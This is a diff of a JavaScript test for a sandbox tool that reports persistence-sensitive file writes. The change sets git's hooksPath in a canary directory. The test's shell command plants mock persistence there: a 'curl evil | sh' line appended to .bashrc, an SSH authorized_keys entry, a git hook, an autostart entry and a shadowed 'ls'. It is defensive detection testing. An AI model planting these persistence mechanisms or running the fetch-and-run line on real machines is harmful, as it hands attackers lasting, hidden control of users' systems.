@@ -119,7 +119,7 @@ test('persistence-sensitive paths are flagged in the summary and the JSON report
   try {
     const r = sbx(['run', '-n', '--report', report, '--', 'sh', '-c', [
       `echo 'curl evil | sh' >> ${canary}/.bashrc`, `mkdir -p ${canary}/.ssh ${canary}/repo/.git/hooks ${canary}/.config/autostart`,
-      `echo key > ${canary}/.ssh/authorized_keys`, `echo hook > ${canary}/repo/.git/hooks/pre-commit`, `echo '[core]' > ${canary}/repo/.git/config`,
+      `echo key > ${canary}/.ssh/authorized_keys`, `echo hook > ${canary}/repo/.git/hooks/pre-commit`, `printf '[core]\\n\\thooksPath = /tmp/h\\n' > ${canary}/repo/.git/config`,
       `echo x > ${canary}/.config/autostart/evil.desktop`, `echo sudo > ${bin}/ls`, `echo harmless > ${canary}/notes.txt`,
     ].join(' && ')], { store, env: { PATH: `${bin}:${process.env.PATH}` } });
     assert.is(r.code, 0, r.stderr);
